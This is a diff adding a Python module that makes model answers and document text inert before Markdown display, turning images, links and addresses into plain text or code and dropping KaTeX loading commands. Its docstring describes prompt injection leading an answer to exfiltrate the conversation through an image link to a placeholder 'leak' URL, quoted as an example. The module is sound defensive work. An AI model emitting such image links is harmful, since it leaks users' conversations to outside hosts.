@@ -1,0 +1,47 @@
+"""Text from documents and from the model, made inert for display as Markdown.
+
+Passages, abstracts and answers are shown with ``st.markdown`` so that maths renders.
+Markdown can also make the browser fetch: an image (``![x](http://host/leak?q=...)``)
+loads as the page renders, and combined with prompt injection an answer could carry
+the conversation off the machine that way. ``inert_markdown`` keeps what a reader
+needs and removes every way to reach out of the page:
+
+* images become their alt text, marked ``[image: ...]``;
+* links keep their text, and their address is shown as code (never a link);
+* bare addresses and reference definitions are shown as code;
+* HTML stays escaped (``unsafe_allow_html`` is never used), and KaTeX commands that
+  load or link (``\\href``, ``\\url``, ``\\includegraphics``) are dropped from maths.
+
+It is idempotent, so a stream can be re-sanitised whole at every token.
+"""
+
+from __future__ import annotations
+
+import re
+
+_IMAGE = re.compile(r"!\[([^\]]*)\]\s*(\([^)]*\)|\[[^\]]*\])?")
+_LINK = re.compile(r"(?<!!)\[([^\]]+)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
+_REFERENCE_LINK = re.compile(r"(?<!!)\[([^\]]+)\]\[[^\]]*\]")
+_DEFINITION = re.compile(r"^\s{0,3}\[[^\]]+\]:\s*(\S+).*$", re.M)
+_AUTOLINK = re.compile(r"<((?:[a-z][a-z0-9+.-]*:|www\.)[^>\s]+)>", re.I)
+_BARE_URL = re.compile(
+    r"(?<![`\w])((?:(?:https?|ftp|file)://|www\.)[^\s`<>)\]]*[^\s`<>)\].,;:!?'\"])", re.I
+)
+_MATH_LOADERS = re.compile(r"\\(href|url|includegraphics|htmlClass|htmlId|htmlStyle|htmlData)\b(\[[^\]]*\])?(\{[^{}]*\})?")
+
+
+def inert_markdown(text: str) -> str:
+    """``text`` with images, links and addresses made harmless (see the module docstring)."""
+    text = _MATH_LOADERS.sub("", text)
+    text = _IMAGE.sub(lambda m: f"[image: {m.group(1).strip() or 'no description'}]", text)
+    text = _LINK.sub(lambda m: f"{m.group(1)} ({_code(m.group(2))})" if m.group(2) else m.group(1), text)
+    text = _REFERENCE_LINK.sub(r"\1", text)
+    text = _DEFINITION.sub(lambda m: f"(reference: {_code(m.group(1))})", text)
+    text = _AUTOLINK.sub(lambda m: _code(m.group(1)), text)
+    return _BARE_URL.sub(lambda m: _code(m.group(1)), text)
+
+
+def _code(address: str) -> str:
+    """An address as inline code: shown, never linked or fetched."""
+    address = address.replace("`", "")
+    return f"`{address}`" if address else ""
